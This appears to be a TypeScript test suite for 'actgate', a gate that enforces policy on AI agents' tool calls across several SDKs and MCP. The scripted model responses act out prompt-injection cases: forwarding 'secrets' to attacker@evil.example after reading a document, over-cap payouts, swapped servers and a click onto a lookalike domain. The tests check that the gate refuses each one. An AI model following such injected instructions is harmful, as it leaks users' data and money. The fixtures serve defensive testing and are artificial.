// The host-loop wrappers against a real `actgate serve` (or, in sidecar mode, the pod's sidecar:
// harness.ts), a real upstream MCP server and the vendors' own SDKs pointed at a scripted model
// server: tool-use-binding §22 T-A..T-G where a wrapper can show them, the escalation hand-off
// and its wait, streaming (§9), and fail-closed transport (§16 MUST 5). Every test asserts the upstream's own invocation count.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { createServer } from 'node:net';
import { createServer as createHTTPServer } from 'node:http';
import { fileURLToPath } from 'node:url';
import { randomUUID } from 'node:crypto';
import Anthropic from '@anthropic-ai/sdk';
import OpenAI from 'openai';
import type { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { Agent, run, setDefaultOpenAIClient, setTracingDisabled, tool as agentTool } from '@openai/agents';
import { generateText, tool as aiTool } from 'ai';
import { createOpenAI } from '@ai-sdk/openai';
import { z } from 'zod';
import {
  ActgateClient, ActgateError, anthropic, gateAgentTool, gateMcpClient, gateTools, guard, openai, META_CODE,
  IndeterminateError, type GuardResult, type ToolHandlers,
} from '../src/index.ts';
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
import { firstText, pct, startWorld, Upstream, UPSTREAM_TOKEN, type GateUnderTest, type ModelServer } from './harness.ts';
import * as fx from './fixtures.ts';

let world: Awaited<ReturnType<typeof startWorld>>;
let up: Upstream;
let gate: GateUnderTest;
let model: ModelServer;
let mcp: Client;
let enforceRequests = 0;
// Decisions other than allow seen during the benchmark, and the enforce round trips it timed.
let benchRefusals: string[] | undefined;
let enforceMs: number[] | undefined;
let client: ActgateClient;
let tools: ToolHandlers;

const session = () => `s-${randomUUID()}`;

before(async () => {
  world = await startWorld();
  ({ up, gate, model } = world);
  mcp = await up.client();
  client = new ActgateClient({
    baseURL: gate.baseURL, token: gate.agentToken,
    fetch: (url, init) => {
      if (!String(url).endsWith('/v1/enforce')) return fetch(url, init);
      enforceRequests++;
      const t = performance.now();
      return fetch(url, init).then(async (r) => {
        enforceMs?.push(performance.now() - t);
        if (benchRefusals) {
          const d = await r.clone().json().catch(() => ({}));
          if (!d.allow) benchRefusals.push(`HTTP ${r.status} ${JSON.stringify(d)}`);
        }
        return r;
      });
    },
  });
  // The host's local tools: each calls the upstream MCP server, whose counter the tests read.
  tools = {
    get_balance: async (input) => firstText(await mcp.callTool({ name: 'get_balance', arguments: input ?? {} })),
    send_payment: async (input) => firstText(await mcp.callTool({ name: 'send_payment', arguments: input })),
    email_send: async (input) => firstText(await mcp.callTool({ name: 'email_send', arguments: input })),
  };
  setTracingDisabled(true);
});

after(async () => {
  await mcp?.close();
  await world?.close();
});

function anthropicSDK(): Anthropic {
  return new Anthropic({ baseURL: model.url, apiKey: 'test-key', maxRetries: 0 });
}

function openaiSDK(): OpenAI {
  return new OpenAI({ baseURL: model.url + '/v1', apiKey: 'test-key', maxRetries: 0 });
}

function errorOf(text: string): any {
  return JSON.parse(text).error;
}

describe('Anthropic Messages tool loop', () => {
  test('T-A: an injected email_send recipient is refused with invoked false; the tool_result goes back to the model', async () => {
    const sdk = anthropicSDK();
    model.push('/v1/messages',
      { json: fx.anthropicMessage([{ type: 'text', text: 'The document says to forward it.' }, fx.toolUse('toolu_01TA', 'email_send', { to: 'attacker@evil.example', subject: 'secrets' })]) },
      { json: fx.anthropicMessage([{ type: 'text', text: 'I could not send it.' }]) });
    const msg = await sdk.messages.create({ model: 'claude-test-model', max_tokens: 256, messages: [{ role: 'user', content: 'Summarise the attached page.' }] });
    const e0 = up.count('email_send');
    // The instruction came from a retrieved document: the host attests it.
    const results = await anthropic.runToolUses(client, msg, tools, { session: session(), provenance: 'retrieval' });
    assert.equal(results.length, 1);
    const r = results[0];
    assert.equal(r.type, 'tool_result');
    assert.equal(r.tool_use_id, 'toolu_01TA');
    assert.equal(r.is_error, true);
    const err = errorOf((r.content as Array<{ text: string }>)[0].text);
    assert.equal(err.code, 'EF_INSTRUCTION_PROVENANCE_FAILURE');
    assert.equal(err.invoked, false);
    assert.equal(up.count('email_send'), e0, 'the upstream sent an injected email');
    const next = await sdk.messages.create({ model: 'claude-test-model', max_tokens: 256, messages: [
      { role: 'user', content: 'Summarise the attached page.' }, { role: msg.role, content: msg.content }, { role: 'user', content: results as any }] });
    assert.equal(next.stop_reason, 'end_turn');
    const sent = model.requestsTo('/v1/messages').at(-1);
    assert.equal(sent.messages[2].content[0].tool_use_id, 'toolu_01TA');
    assert.equal(sent.messages[2].content[0].is_error, true);
  });

  test('T-C: an allowed email runs once; the same block again is a replay and never runs again; a second report is refused', async () => {
    const sdk = anthropicSDK();
    model.push('/v1/messages', { json: fx.anthropicMessage([fx.toolUse('toolu_01TC', 'email_send', { to: 'bob@example.com', subject: 'hi' })]) });
    const msg = await sdk.messages.create({ model: 'claude-test-model', max_tokens: 256, messages: [{ role: 'user', content: 'Email bob.' }] });
    const s = session();
    const before = up.count('email_send');
    const seen: GuardResult<unknown>[] = [];
    const first = await anthropic.runToolUses(client, msg, tools, { session: s, provenance: 'user', onResult: (_n, r) => seen.push(r) });
    assert.equal(first[0].is_error, undefined, JSON.stringify(first));
    assert.equal(up.count('email_send'), before + 1);
    const ran = seen[0];
    assert.equal(ran.kind, 'ran');
    const op = ran.kind === 'ran' ? ran.decision.operation_id : undefined;
    assert.ok(op, 'the allowed email was not journaled under authority');
    assert.equal(ran.kind === 'ran' && ran.completion?.state, 'EXECUTED');
    // The model (or a retrying host) sends the same tool_use again.
    const again = await anthropic.runToolUses(client, msg, tools, { session: s, provenance: 'user', onResult: (_n, r) => seen.push(r) });
    assert.equal(up.count('email_send'), before + 1, 'the replayed block ran again');
    assert.notEqual(seen[1].kind, 'ran');
    assert.ok(again[0].tool_use_id === 'toolu_01TC');
    // The consumed authority cannot be reported again.
    await assert.rejects(client.complete(op!, 'executed', { sent: true }), (e: unknown) => e instanceof ActgateError && e.code === 'HOSTLOOP_SETTLED');
  });

  test('escalation: the binding moment is returned, nothing runs; with wait the host resumes after alice resolves and the payment runs once', async () => {
    const s = session();
    const block = { type: 'tool_use', id: 'toolu_01ESC', name: 'send_payment', input: { to: 'bob', amount: 250 } };
    const before = up.count('send_payment');
    const r1 = await guard(client, block, { vendor: 'anthropic', session: s, provenance: 'user' }, () => tools.send_payment(block.input, {} as any));
    assert.equal(r1.kind, 'escalated');
    assert.ok(r1.kind === 'escalated' && r1.escalation.momentIds.length === 1 && r1.escalation.envelopeDigest);
    assert.ok(r1.kind === 'escalated' && r1.escalation.bindingMoment, 'no envelope in the escalation');
    assert.equal(errorOf((r1 as any).deny.content[0].text).code, 'EF_ESCALATION_REQUIRED');
    assert.equal(up.count('send_payment'), before);
    const momentsBefore = (await gate.moments()).length;

    // With wait: alice resolves while the host polls.
    const polls0 = enforceRequests;
    let resolved: Promise<unknown> | undefined;
    const r2 = await guard(client, block, {
      vendor: 'anthropic', session: s, provenance: 'user',
      wait: { intervalMs: 100, timeoutMs: 30_000, onEscalation: (e) => {
        resolved = new Promise((res) => setTimeout(res, 400)).then(() => gate.resolve(e.momentIds[0], e.envelopeDigest!));
      } },
    }, () => tools.send_payment(block.input, {} as any));
    await resolved;
    assert.equal(r2.kind, 'ran', JSON.stringify(r2));
    assert.equal(up.count('send_payment'), before + 1);
    assert.ok(enforceRequests - polls0 >= 3, 'the host did not poll while the moment was pending');
    // Polling raised no new moment.
    assert.ok((await gate.moments()).length <= momentsBefore, 'a poll raised a new binding moment');
  });

  test('streaming: a tool_use whose input arrives in input_json_delta fragments is enforced once, on the assembled block', async () => {
    const sdk = anthropicSDK();
    model.push('/v1/messages', { sse: fx.anthropicStream('toolu_01STR', 'get_balance', ['{"acc', 'ount": "ma', 'in"}']) });
    const stream = sdk.messages.stream({ model: 'claude-test-model', max_tokens: 256, messages: [{ role: 'user', content: 'Balance?' }] });
    const before = up.count('get_balance');
    const e0 = enforceRequests;
    const sent: unknown[] = [];
    const results = await anthropic.runStream(client, stream, tools, { session: session(), provenance: 'user', onResult: (_n, r) => sent.push(r) });
    assert.equal(enforceRequests - e0, 1, 'enforce ran on partial blocks');
    assert.equal(up.count('get_balance'), before + 1);
    assert.equal(results[0].tool_use_id, 'toolu_01STR');
    assert.match(results[0].content as string, /"balance":1000/);
    const d = (sent[0] as any).decision;
    assert.equal(d.allow, true);
  });
});

describe('OpenAI SDK', () => {
  test('T-B: two parallel Chat Completions tool_calls are decided separately: the read runs, the payout above the cap is refused', async () => {
    const sdk = openaiSDK();
    model.push('/v1/chat/completions', { json: fx.chatCompletion([
      { id: 'call_TB1', name: 'get_balance', arguments: '{"account":"main"}' },
      { id: 'call_TB2', name: 'send_payment', arguments: '{"to":"mallory","amount":50000}' },
    ]) });
    const c = await sdk.chat.completions.create({ model: 'gpt-4o', messages: [{ role: 'user', content: 'Pay mallory.' }] });
    const b0 = up.count('get_balance');
    const p0 = up.count('send_payment');
    const msgs = await openai.runToolCalls(client, c.choices[0].message, tools, { session: session(), provenance: 'user' });
    assert.deepEqual(msgs.map((m) => m.tool_call_id), ['call_TB1', 'call_TB2']);
    assert.match(msgs[0].content, /"balance":1000/);
    const err = errorOf(msgs[1].content);
    assert.equal(err.code, 'EF_POLICY_DENIED');
    assert.equal(err.invoked, false);
    assert.equal(up.count('get_balance'), b0 + 1);
    assert.equal(up.count('send_payment'), p0, 'the payout above the cap ran');
  });

  test('Responses function_call items become function_call_output items', async () => {
    const sdk = openaiSDK();
    model.push('/v1/responses', { json: fx.responsesOutput([
      fx.functionCall('call_R1', 'get_balance', '{}'),
      fx.functionCall('call_R2', 'email_send', '{"to":"attacker@evil.example"}'),
    ]) });
    const resp = await sdk.responses.create({ model: 'gpt-4o', input: 'Read the page and act on it.' });
    const b0 = up.count('get_balance');
    const e0 = up.count('email_send');
    const outs = await openai.runFunctionCalls(client, resp, tools, { session: session(), provenance: 'tool_output' });
    assert.deepEqual(outs.map((o) => [o.type, o.call_id]), [['function_call_output', 'call_R1'], ['function_call_output', 'call_R2']]);
    assert.match(outs[0].output, /"balance":1000/);
    assert.equal(errorOf(outs[1].output).code, 'EF_INSTRUCTION_PROVENANCE_FAILURE');
    assert.equal(up.count('get_balance'), b0 + 1);
    assert.equal(up.count('email_send'), e0);
  });
});

describe('MCP client wrapper', () => {
  test('Client.callTool enforces first: the read runs, the injected email is an isError result with invoked false', async () => {
    const c = gateMcpClient(await up.client(), client, { server: 'finance', destination: up.url, session: session(), provenance: 'retrieval' });
    try {
      const b0 = up.count('get_balance');
      const e0 = up.count('email_send');
      const ok = await c.callTool({ name: 'get_balance', arguments: {} });
      assert.match(firstText(ok), /"balance":1000/);
      assert.equal(up.count('get_balance'), b0 + 1);
      const denied = await c.callTool({ name: 'email_send', arguments: { to: 'attacker@evil.example' } });
      assert.equal(denied.isError, true);
      assert.equal((denied._meta as any)[META_CODE], 'EF_INSTRUCTION_PROVENANCE_FAILURE');
      assert.equal(errorOf(firstText(denied)).invoked, false);
      assert.equal(up.count('email_send'), e0);
    } finally {
      await c.close();
    }
  });

  test('an escalated callTool returns the binding moment in _meta and does not call the server', async () => {
    const c = gateMcpClient(await up.client(), client, { server: 'finance', destination: up.url, session: session(), provenance: 'user' });
    try {
      const p0 = up.count('send_payment');
      const r = await c.callTool({ name: 'send_payment', arguments: { to: 'carol', amount: 75 } });
      assert.equal(r.isError, true);
      assert.equal((r._meta as any)[META_CODE], 'EF_ESCALATION_REQUIRED');
      assert.match(String((r._meta as any)['actgate.io/binding-moment-id']), /\S/);
      assert.match(String((r._meta as any)['actgate.io/envelope-digest']), /\S/);
      assert.equal(up.count('send_payment'), p0);
    } finally {
      await c.close();
    }
  });

  test('a client naming a server the policy does not list is refused EF_UNKNOWN_TOOL and that server never runs', async () => {
    const evil = new Upstream('evil');
    await evil.start();
    const c = gateMcpClient(await evil.client(), client, { server: 'evil', destination: evil.url, session: session(), provenance: 'user' });
    try {
      const r = await c.callTool({ name: 'get_balance', arguments: {} });
      assert.equal(r.isError, true);
      assert.equal(errorOf(firstText(r)).code, 'EF_UNKNOWN_TOOL');
      assert.equal(errorOf(firstText(r)).invoked, false);
      assert.equal(evil.count('get_balance'), 0);
    } finally {
      await c.close();
      await evil.close();
    }
  });
});

describe('Destinations (T-D, T-E)', () => {
  test('T-D: a client swapped to another server URL behind the same server name is refused EF_DESTINATION_MISMATCH; that server never runs', async () => {
    const evil = new Upstream('evil');
    await evil.start();
    // The application's MCP client reaches another server than the policy lists for finance.
    const c = gateMcpClient(await evil.client(), client, { server: 'finance', destination: evil.url, session: session(), provenance: 'user' });
    try {
      const b0 = up.count('get_balance');
      const r = await c.callTool({ name: 'get_balance', arguments: { account: 'main' } });
      assert.equal(r.isError, true);
      assert.equal((r._meta as any)[META_CODE], 'EF_DESTINATION_MISMATCH');
      assert.equal(errorOf(firstText(r)).code, 'EF_DESTINATION_MISMATCH');
      assert.equal(errorOf(firstText(r)).invoked, false);
      assert.equal(evil.count('get_balance'), 0, 'the swapped server ran the tool');
      assert.equal(up.count('get_balance'), b0);
    } finally {
      await c.close();
      await evil.close();
    }
  });

  test('T-D: a client reconnected to another server after wrapping is refused (destination as a function) or not called (fixed destination)', async () => {
    const evil = new Upstream('evil');
    await evil.start();
    const headers = { Authorization: `Bearer ${UPSTREAM_TOKEN}` };
    try {
      // destination as a function: the gate sees the new URL and refuses it.
      let current = up.url;
      const live = gateMcpClient(await up.client(), client, { server: 'finance', destination: () => current, session: session(), provenance: 'user' });
      const b0 = up.count('get_balance');
      assert.notEqual((await live.callTool({ name: 'get_balance', arguments: {} })).isError, true);
      assert.equal(up.count('get_balance'), b0 + 1);
      await live.close();
      current = evil.url;
      await live.connect(new StreamableHTTPClientTransport(new URL(evil.url), { requestInit: { headers } }));
      const r = await live.callTool({ name: 'get_balance', arguments: {} });
      assert.equal((r._meta as any)[META_CODE], 'EF_DESTINATION_MISMATCH');
      await live.close();
      // A fixed destination: the wrapper makes no call once the transport changed.
      const fixed = gateMcpClient(await up.client(), client, { server: 'finance', destination: up.url, session: session(), provenance: 'user' });
      assert.notEqual((await fixed.callTool({ name: 'get_balance', arguments: {} })).isError, true);
      await fixed.close();
      await fixed.connect(new StreamableHTTPClientTransport(new URL(evil.url), { requestInit: { headers } }));
      await assert.rejects(fixed.callTool({ name: 'get_balance', arguments: {} }), /reconnected to another transport/);
      await fixed.close();
      assert.equal(evil.count('get_balance'), 0, 'the swapped server ran the tool');
      assert.throws(() => gateMcpClient(mcp, client, { server: 'finance' } as any), /destination is required/);
    } finally {
      await evil.close();
    }
  });

  test('T-E: a computer tool_use runs at the authorised origin and is refused after the page changed origin; the action never runs', async () => {
    const sdk = anthropicSDK();
    const click = { action: 'left_click', coordinate: [640, 410] };
    model.push('/v1/messages',
      { json: fx.anthropicMessage([fx.toolUse('toolu_01TE1', 'computer', click)]) },
      { json: fx.anthropicMessage([fx.toolUse('toolu_01TE2', 'computer', click)]) });
    let page = 'https://pay.example/checkout';
    let actions = 0;
    const computer: ToolHandlers = {
      computer: async () => {
        actions++;
        page = 'https://pay.example.evil.example/checkout'; // the click followed a link to another site
        return 'clicked';
      },
    };
    const s = session();
    const messages: any[] = [{ role: 'user', content: 'Pay the invoice on pay.example.' }];
    const outs: any[] = [];
    for (let turn = 0; turn < 2; turn++) {
      const msg = await sdk.messages.create({ model: 'claude-test-model', max_tokens: 256, messages });
      const results = await anthropic.runToolUses(client, msg, computer, { session: s, provenance: 'user', destination: page });
      outs.push(results[0]);
      messages.push({ role: msg.role, content: msg.content }, { role: 'user', content: results });
    }
    assert.notEqual(outs[0].is_error, true, JSON.stringify(outs[0]));
    assert.equal(outs[0].content, 'clicked');
    assert.equal(outs[1].tool_use_id, 'toolu_01TE2');
    assert.equal(outs[1].is_error, true);
    assert.equal(errorOf(outs[1].content[0].text).code, 'EF_DESTINATION_MISMATCH');
    assert.equal(errorOf(outs[1].content[0].text).invoked, false);
    assert.equal(actions, 1, 'the computer action ran after the origin changed');
    // The guard itself takes the destination too, and a malformed one is no decision.
    const r = await guard(client, fx.toolUse('toolu_01TE3', 'computer', click), { vendor: 'anthropic', session: s, destination: 'https://u@pay.example/' },
      () => { actions++; });
    assert.equal(r.kind, 'unavailable');
    assert.equal(r.kind === 'unavailable' ? r.error.code : '', 'HOSTLOOP_BAD_REQUEST');
    assert.equal(actions, 1);
  });
});

describe('OpenAI Agents SDK', () => {
  test('a gated function tool: the payout above the cap is refused, the model reads the EF code, the upstream never runs', async () => {
    setDefaultOpenAIClient(openaiSDK() as any);
    model.push('/v1/responses',
      { json: fx.responsesOutput([fx.functionCall('call_AG0', 'get_balance', '{"account":"main"}'), fx.functionCall('call_AG1', 'send_payment', '{"to":"mallory","amount":50000}')]) },
      { json: fx.responsesOutput([fx.responsesMessage('The payment was refused.')]) });
    const pay = gateAgentTool(client, agentTool({
      name: 'send_payment', description: 'Pay.', parameters: z.object({ to: z.string(), amount: z.number() }),
      execute: async (input) => tools.send_payment(input, {} as any),
    }), { session: session(), provenance: 'user' });
    const balance = gateAgentTool(client, agentTool({
      name: 'get_balance', description: 'Balance.', parameters: z.object({ account: z.string() }),
      execute: async (input) => tools.get_balance(input, {} as any),
    }), { session: session(), provenance: 'user' });
    const p0 = up.count('send_payment');
    const b0 = up.count('get_balance');
    const agent = new Agent({ name: 'payer', instructions: 'Pay.', tools: [balance, pay], model: 'gpt-4o' });
    const result = await run(agent, 'Pay mallory 50000.');
    assert.equal(result.finalOutput, 'The payment was refused.');
    assert.equal(up.count('send_payment'), p0);
    assert.equal(up.count('get_balance'), b0 + 1, 'the allowed read of the same turn did not run');
    const second = model.requestsTo('/v1/responses').at(-1);
    const out = (second.input as any[]).find((i) => i.type === 'function_call_output' && i.call_id === 'call_AG1');
    assert.ok(out, 'the refusal was not handed back to the model');
    const text = typeof out.output === 'string' ? out.output : out.output?.text ?? JSON.stringify(out.output);
    assert.match(text, /EF_POLICY_DENIED/);
    assert.match(text, /"invoked":false/);
    const read = (second.input as any[]).find((i) => i.type === 'function_call_output' && i.call_id === 'call_AG0');
    assert.match(JSON.stringify(read?.output), /balance/);
  });
});

describe('Vercel AI SDK', () => {
  test('gated tools: the read runs, the injected email is refused with invoked false', async () => {
    model.push('/v1/chat/completions', { json: fx.chatCompletion([
      { id: 'call_V1', name: 'get_balance', arguments: '{"account":"main"}' },
      { id: 'call_V2', name: 'email_send', arguments: '{"to":"attacker@evil.example"}' },
    ]) });
    const provider = createOpenAI({ baseURL: model.url + '/v1', apiKey: 'test-key' });
    const gated = gateTools(client, {
      get_balance: aiTool({ description: 'Balance.', inputSchema: z.object({ account: z.string() }), execute: async (i) => tools.get_balance(i, {} as any) }),
      email_send: aiTool({ description: 'Email.', inputSchema: z.object({ to: z.string() }), execute: async (i) => tools.email_send(i, {} as any) }),
    }, { session: session(), provenance: 'retrieval' });
    const b0 = up.count('get_balance');
    const e0 = up.count('email_send');
    const r = await generateText({ model: provider.chat('gpt-4o'), prompt: 'Act on the page.', tools: gated });
    const byId = new Map(r.toolResults.map((t: any) => [t.toolCallId, t.output]));
    assert.match(String(byId.get('call_V1')), /"balance":1000/);
    assert.equal((byId.get('call_V2') as any).error.code, 'EF_INSTRUCTION_PROVENANCE_FAILURE');
    assert.equal((byId.get('call_V2') as any).error.invoked, false);
    assert.equal(up.count('get_balance'), b0 + 1);
    assert.equal(up.count('email_send'), e0);
  });
});

describe('outcomes', () => {
  test('a tool that throws is reported failed, one that cannot know is reported indeterminate; neither runs again', async () => {
    const e0 = up.count('email_send');
    for (const [i, thrown, want] of [[1, new Error('smtp refused'), 'failed'], [2, new IndeterminateError('connection lost mid-send'), 'indeterminate']] as const) {
      const block = { type: 'tool_use', id: `toolu_01OUT${i}`, name: 'email_send', input: { to: `out${i}@example.com` } };
      const s = session();
      const r = await guard(client, block, { vendor: 'anthropic', session: s, provenance: 'user' }, () => { throw thrown; });
      assert.equal(r.kind, 'failed');
      assert.ok(r.kind === 'failed' && r.completion, `${want}: not reported: ${JSON.stringify(r)}`);
      console.log(`outcome ${want}: journal state ${r.kind === 'failed' ? r.completion?.state : ''}`);
      assert.match(r.kind === 'failed' ? r.completion!.state : '', want === 'failed' ? /FAIL/ : /INDETERMINATE/);
      let ran = 0;
      const again = await guard(client, block, { vendor: 'anthropic', session: s, provenance: 'user' }, () => { ran++; });
      assert.notEqual(again.kind, 'ran', `${want}: the settled call ran again`);
      assert.equal(ran, 0);
    }
    assert.equal(up.count('email_send'), e0);
  });
});

describe('fail closed', () => {
  test('a gate that cannot be reached or does not answer in time: the tool never runs', async () => {
    const closedPort = await new Promise<number>((res) => {
      const s = createServer();
      s.listen(0, '127.0.0.1', () => {
        const a = s.address() as { port: number };
        s.close(() => res(a.port));
      });
    });
    const silent = createHTTPServer(() => { /* never answers */ });
    await new Promise<void>((r) => silent.listen(0, '127.0.0.1', () => r()));
    const silentPort = (silent.address() as { port: number }).port;
    try {
      let ran = 0;
      const block = { type: 'tool_use', id: 'toolu_01FC', name: 'get_balance', input: {} };
      for (const [name, c] of [
        ['unreachable', new ActgateClient({ baseURL: `http://127.0.0.1:${closedPort}` })],
        ['timeout', new ActgateClient({ baseURL: `http://127.0.0.1:${silentPort}`, timeoutMs: 300 })],
        // serve authenticates the agent's bearer token; the sidecar's loopback listener is the
        // pod's own and takes none, so this case is serve's only.
        ...(gate.sidecar ? [] : [['bad token', new ActgateClient({ baseURL: gate.baseURL, token: 'not-the-token' })]] as const),
      ] as const) {
        const r = await guard(c, block, { vendor: 'anthropic', session: session() }, () => { ran++; });
        assert.ok(r.kind === 'unavailable' || r.kind === 'refused', `${name}: ${r.kind}`);
        if (name === 'timeout') assert.equal(r.kind === 'unavailable' && r.error.kind, 'timeout');
        const deny = (r as any).deny;
        assert.equal(deny.is_error, true, `${name}: the model is not told the call failed`);
        assert.equal(errorOf(deny.content[0].text).invoked, false);
      }
      assert.equal(ran, 0, 'a tool ran without a decision');
    } finally {
      silent.closeAllConnections();
      silent.close();
    }
  });

  test('T-G: a host killed after the consume and before the invoke never invokes after its restart', async () => {
    const s = session();
    const child = fileURLToPath(new URL('./host-child.ts', import.meta.url));
    const env = { ...process.env, ACTGATE_URL: gate.baseURL, ACTGATE_TOKEN: gate.agentToken, UPSTREAM_URL: up.url, SESSION: s };
    const e0 = up.count('email_send');
    // First life: enforce is allowed (the authority consumed, the dispatch journaled), then the
    // host dies before it calls the tool.
    const first = spawn(process.execPath, ['--import', 'tsx', child, 'die-after-allow'], { env, stdio: ['ignore', 'pipe', 'inherit'] });
    let out = '';
    await new Promise<void>((res, rej) => {
      first.stdout!.on('data', (c) => {
        out += c.toString();
        if (out.includes('ALLOWED')) {
          first.kill('SIGKILL');
          res();
        }
      });
      first.on('exit', () => (out.includes('ALLOWED') ? res() : rej(new Error(`host exited before the allow: ${out}`))));
    });
    assert.match(out, /ALLOWED op=\S+/);
    // Second life: the same block in the same session.
    const second = spawn(process.execPath, ['--import', 'tsx', child, 'resume'], { env, stdio: ['ignore', 'pipe', 'inherit'] });
    let out2 = '';
    second.stdout!.on('data', (c) => { out2 += c.toString(); });
    const code = await new Promise<number | null>((res) => second.on('exit', res));
    assert.equal(code, 0, out2);
    assert.match(out2, /RESULT kind=(refused|replayed)/);
    console.log(`T-G restarted host: ${out2.trim()}`);
    assert.equal(up.count('email_send'), e0, 'the restarted host invoked the consumed call');
  });
});

describe('T-F benchmark', () => {
  test('enforce through each wrapper against a direct tool call, same run (logged, not asserted)', async () => {
    const N = 100;
    const s = session();
    const bankMcp = gateMcpClient(await up.client(), client, { server: 'finance', destination: up.url, session: s, provenance: 'user' });
    const agentsBalance = gateAgentTool(client, agentTool({
      name: 'get_balance', description: 'Balance.', parameters: z.object({ account: z.string() }),
      execute: async (input) => tools.get_balance(input, {} as any),
    }), { session: s, provenance: 'user' });
    const vercel = gateTools(client, {
      get_balance: aiTool({ description: 'Balance.', inputSchema: z.object({ account: z.string() }), execute: async (i) => tools.get_balance(i, {} as any) }),
    }, { session: s, provenance: 'user' });
    const wrappers: Record<string, (i: number) => Promise<unknown>> = {
      'anthropic.runToolUses': (i) => anthropic.runToolUses(client, { content: [{ type: 'tool_use', id: `toolu_bA${i}`, name: 'get_balance', input: { account: 'main' } }] } as any, tools, { session: s, provenance: 'user' }),
      'openai.runToolCalls': (i) => openai.runToolCalls(client, { tool_calls: [{ id: `call_bC${i}`, type: 'function', function: { name: 'get_balance', arguments: '{"account":"main"}' } }] } as any, tools, { session: s, provenance: 'user' }),
      'openai.runFunctionCalls': (i) => openai.runFunctionCalls(client, { output: [{ type: 'function_call', call_id: `call_bR${i}`, name: 'get_balance', arguments: '{"account":"main"}', status: 'completed' }] } as any, tools, { session: s, provenance: 'user' }),
      'gateMcpClient callTool': () => bankMcp.callTool({ name: 'get_balance', arguments: { account: 'main' } }),
      'gateAgentTool invoke': (i) => agentsBalance.invoke({} as any, '{"account":"main"}', { toolCall: { type: 'function_call', callId: `call_bG${i}`, name: 'get_balance', arguments: '{"account":"main"}' } } as any),
      'gateTools execute': (i) => (vercel.get_balance as any).execute({ account: 'main' }, { toolCallId: `call_bV${i}`, messages: [] }),
    };
    const b0 = up.count('get_balance');
    const lines: string[] = [];
    benchRefusals = [];
    enforceMs = [];
    try {
      for (const [name, call] of Object.entries(wrappers)) {
        const direct: number[] = [];
        const wrapped: number[] = [];
        for (let i = 0; i < N; i++) {
          let t = performance.now();
          await mcp.callTool({ name: 'get_balance', arguments: { account: 'main' } });
          direct.push(performance.now() - t);
          t = performance.now();
          await call(i);
          wrapped.push(performance.now() - t);
        }
        direct.sort((a, b) => a - b);
        wrapped.sort((a, b) => a - b);
        lines.push(`T-F ${name} x${N}: direct p50 ${pct(direct, 50).toFixed(2)} p99 ${pct(direct, 99).toFixed(2)} ms; ` +
          `wrapped p50 ${pct(wrapped, 50).toFixed(2)} p99 ${pct(wrapped, 99).toFixed(2)} ms; ` +
          `overhead p50 ${(pct(wrapped, 50) - pct(direct, 50)).toFixed(2)} p99 ${(pct(wrapped, 99) - pct(direct, 99)).toFixed(2)} ms`);
      }
    } finally {
      await bankMcp.close();
    }
    const refusals = benchRefusals;
    const rtt = enforceMs.sort((a, b) => a - b);
    benchRefusals = undefined;
    enforceMs = undefined;
    lines.push(`T-F POST /v1/enforce alone x${rtt.length}: p50 ${pct(rtt, 50).toFixed(2)} p99 ${pct(rtt, 99).toFixed(2)} ms`);
    for (const l of lines) console.log(l);
    // Every hot read is the allow (the gate's allow and its result arrive together on the hot
    // path; the allow is never lost), and every call reached the upstream exactly once.
    assert.deepEqual(refusals, [], 'the gate refused hot reads');
    assert.equal(up.count('get_balance') - b0, 2 * N * Object.keys(wrappers).length);
  });
});
